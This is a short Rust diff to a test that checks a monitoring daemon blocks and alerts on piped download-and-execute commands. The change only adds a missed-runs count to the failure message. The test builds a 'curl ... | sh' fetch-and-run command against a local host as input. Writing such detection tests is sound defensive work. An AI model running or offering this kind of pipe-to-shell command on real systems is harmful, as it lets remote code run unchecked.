@@ -94,7 +94,11 @@ pub fn pipe_to_shell_never_runs() -> Result<()> {
             _ => format!("curl -s http://127.0.0.1:{}/x | sh -s", peer.port),
         };
         stage.container.run(&script)?;
-        ensure!(!stage.has("/tmp/ran"), "the payload ran in round {round} of {tries}: {script}");
+        ensure!(
+            !stage.has("/tmp/ran"),
+            "the payload ran in round {round} of {tries}: {script}; runs of programs missed: {}",
+            stage.watch.daemon.missed_runs()
+        );
     }
     stage.watch.daemon.await_alert("download_exec", stage.container.id())?;
     Ok(())
